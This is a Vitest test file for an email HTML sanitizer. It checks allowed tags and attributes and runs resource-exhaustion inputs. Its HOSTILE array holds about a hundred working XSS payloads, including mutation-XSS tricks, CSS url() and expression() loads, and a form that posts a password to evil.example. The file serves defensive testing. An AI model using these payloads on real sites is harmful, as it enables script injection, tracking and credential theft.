import { describe, expect, test } from 'vitest'
import { safeHtml } from '../../../server/capture/safe-html.ts'

describe('what a letter may keep', () => {
  test.each([
    ['text and its marks', '<p>Dear <b>Jamie</b>,<br>thank <i>you</i></p>', '<p>Dear <b>Jamie</b>,<br />thank <i>you</i></p>'],
    ['a table of old times', '<table width="100%" cellpadding=0 bgcolor="#ffffff"><tr><td align="center" valign="top">x</td></tr></table>',
      '<table width="100%" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" valign="top">x</td></tr></table>'],
    ['styles that colour and space', '<p style="color: rgb(1, 2, 3); margin:0 0 1em; font-family:\'Malgun Gothic\', \'맑은 고딕\', sans-serif !important">x</p>',
      '<p style="color: rgb(1, 2, 3); margin: 0 0 1em; font-family: \'Malgun Gothic\', \'맑은 고딕\', sans-serif !important">x</p>'],
    ['a link, in a window that knows nothing of ours', '<a href="https://bigco.com/offer?a=1&b=2">offer</a>',
      '<a href="https://bigco.com/offer?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">offer</a>'],
    ['a link with a target of its own', '<a href="mailto:jane@bigco.com" target="_top" rel="opener">Jane</a>', '<a href="mailto:jane@bigco.com" target="_blank" rel="noopener noreferrer nofollow">Jane</a>'],
    ['a picture elsewhere, not loaded', '<img src="https://bigco.com/logo.png" width="10" alt="BigCo">', '<img width="10" alt="BigCo" data-remote-src="https://bigco.com/logo.png" />'],
    ['the same without a scheme', '<img src="//bigco.com/logo.png">', '<img data-remote-src="https://bigco.com/logo.png" />'],
    ['a picture of the mail itself', '<img src="cid:logo@bigco.com">', '<img data-cid="logo@bigco.com" />'],
    ['a picture that the HTML holds', '<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
    ['the text of elements that it does not know', '<html><body><o:p>x</o:p><custom>y</custom></body></html>', 'xy'],
    ['letters that mean something', 'a < b & c > d "e"', 'a &lt; b &amp; c &gt; d "e"'],
    ['quotations', '<blockquote type="cite">we ask</blockquote>', '<blockquote type="cite">we ask</blockquote>'],
  ])('%s', (_title, html, safe) => {
    expect(safeHtml(html)).toBe(safe)
  })
})

/** What nothing safe may have: anything but the elements and attributes of a letter, and a value that runs or loads. */
const TAG = /<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: ?\/)?>/g
const ELEMENTS = /^(?:a|b|p|br|div|span|img|table|tbody|tr|td|font|i|u|pre|ul|li|h1|center|blockquote|details|summary|section|code|hr)$/
const ATTRIBUTE = /^(?:href="(?:https?:\/\/|mailto:|tel:)|target="_blank"|rel="noopener noreferrer nofollow"|src="data:image\/(?:png|jpeg|gif|webp);base64,|data-remote-src="https?:\/\/|data-cid="|style="|(?:width|height|border|cellpadding|align|dir|title|alt|bgcolor|color|size|face|open)(?:="|$))/

function faults(safe: string): string[] {
  const found = safe.replace(TAG, (_tag, _slash, name: string, attributes: string) => {
    if (!ELEMENTS.test(name)) return `FAULT<${name}>`
    const wrong = (attributes.match(/[a-z-]+(?:="[^"]*")?/g) ?? []).filter(attribute => !ATTRIBUTE.test(attribute) || /style="[^"]*(?:url|\\|@|\/\*|expression|var\(|position|behavior|animation|transform|[:\s]-\d|image)/i.test(attribute))
    return wrong.length > 0 ? `FAULT ${wrong.join(' ')}` : ''
  })
  return found.match(/FAULT.*|<.*/g) ?? []
}

test('the check itself finds what is not safe', () => {
  for (const bad of ['<script>', '<img src="https://x">', '<p onclick="x">', '<a href="javascript:x">', '<p style="background: url(x)">', '<p style="position: fixed">', '<svg>', 'a<b', '<p id="x">']) {
    expect(faults(bad), bad).not.toEqual([])
  }
})

const HOSTILE = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/src="data:,alert(1)">', '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)">', '<img/src/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<body onload=alert(1)>', '<p onmouseover="alert(1)">x', '<details open ontoggle=alert(1)>x',
  '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="vbscript:x">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="file:///C:/x">x</a>', '<a href="/settings">x</a>', '<a href="//evil.example">x</a>',
  '<a href="#top" name="top" id="top" class="x">x</a>', '<a href="https://x.example" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<svg><script>alert(1)</script></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>', '<math href="javascript:alert(1)">x</math>', '<form action="https://evil.example"><input name=password><button>x</button></form>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="https://evil.example/x.swf"></object>', '<embed src="https://evil.example/x.swf">', '<applet code=x></applet>',
  '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import "https://evil.example/x.css";</style>', '<style>p{background:url(https://evil.example)}</style>', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href="https://evil.example/">',
  '<p style="background:url(https://evil.example/x)">x', '<p style="background-image:url(https://evil.example/x)">x', '<p style="background:u\\72l(https://evil.example)">x', '<p style="background:/**/url(x)">x', '<p style="color:expression(alert(1))">x', '<p style="width:expression\\28 alert(1)\\29">x',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x', '<p style="POSITION : absolute">x', '<p style="margin-top:-500px">x', '<p style="margin:0 -9em">x', '<p style="color:var(--x)">x', '<p style="font-family:\'a;color:url(x)\'">x', '<p style="behavior:url(x)">x', '<p style="-moz-binding:url(x)">x',
  '<p style="background:image-set(\'https://evil.example/x\' 1x)">x', '<p style="list-style:url(https://evil.example)">x', '<p style="content:url(x)">x', '<p style="cursor:url(x),auto">x', '<p style="animation:x 1s">x', '<p style="transform:scale(9)">x', '<p style="color:red;@import \'x\'">x', '<p style="color:&quot;</p><script>alert(1)</script>">x',
  '<img srcset="https://evil.example/x 1x" src="https://evil.example/y">', '<picture><source srcset="https://evil.example/x"><img src="cid:x"></picture>', '<video poster="https://evil.example/x" src=x></video>', '<audio src="https://evil.example/x" autoplay></audio>', '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img src="data:text/html,x">', '<img src="javascript:alert(1)">', '<img src="blob:x">', '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">', '<img data-remote-src="javascript:alert(1)" data-cid="&quot;><script>">', '<img src="cid:&quot;onerror=alert(1) x=&quot;">', '<img src="https://evil.example/&quot;onerror=&quot;alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<template><img src=x onerror=alert(1)></template>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>', '<title><img title="</title><img src=x onerror=alert(1)>"></title>', '<plaintext><img src=x onerror=alert(1)>', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">', '<select><option><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;', '<!--[if mso]><img src=x onerror=alert(1)><![endif]-->',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">x', '&lt;script&gt;alert(1)&lt;/script&gt;', '<<b>script>alert(1)<</b>/script>', '<p title="`><img src=x onerror=alert(1)>">x', '<p/title="x"onclick="alert(1)">x', '<p \u0000onclick=alert(1)>x', '<p a="b" "onclick=alert(1)>x', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<isindex action="javascript:alert(1)" type=image>', '<marquee onstart=alert(1)>x</marquee>', '<keygen autofocus onfocus=alert(1)>', '<slot name=x>x</slot><dialog open>x</dialog>',
]

describe('what a letter may not keep', () => {
  test.each(HOSTILE)('%s', html => {
    expect(faults(safeHtml(html))).toEqual([])
  })

  test('all but a few of these are faulty before they are made safe', () => {
    expect(HOSTILE.filter(html => faults(html).length === 0)).toEqual(['<p title="&lt;img src=x onerror=alert(1)&gt;">x', '&lt;script&gt;alert(1)&lt;/script&gt;'])
  })
})

describe('HTML made to harm ends in time', () => {
  test.each<[string, string]>([
    ['100,000 elements in each other', '<div>'.repeat(100_000)],
    ['20,000 tables in each other', '<table><tr><td>'.repeat(20_000)],
    ['900 elements in each other', `${'<b>'.repeat(900)}x`],
    ['50,000 attributes', `<p ${Array.from({ length: 50_000 }, (_, at) => `a${at}=x`).join(' ')}>x`],
    ['a style of 1 MB', `<p style="${'color:red;'.repeat(100_000)}">x`],
    ['a link of 1 MB', `<a href="https://${'x'.repeat(1_000_000)}">x</a>`],
    ['2 MB of open tags', '<a '.repeat(700_000)],
    ['2 MB of references', '&amp;'.repeat(400_000)],
    ['2 MB of elements', '<b>x</b>'.repeat(250_000)],
  ])('%s', (_title, html) => {
    const begun = process.cpuUsage()
    expect(faults(safeHtml(html))).toEqual([])
    expect(process.cpuUsage(begun).user).toBeLessThan(5_000_000)
  })

  test('what stands deeper than 200 keeps its text', () => {
    const safe = safeHtml(`${'<b>'.repeat(300)}offer`)
    expect(safe.match(/<b>/g)).toHaveLength(200)
    expect(safe).toContain('offer')
  })
})
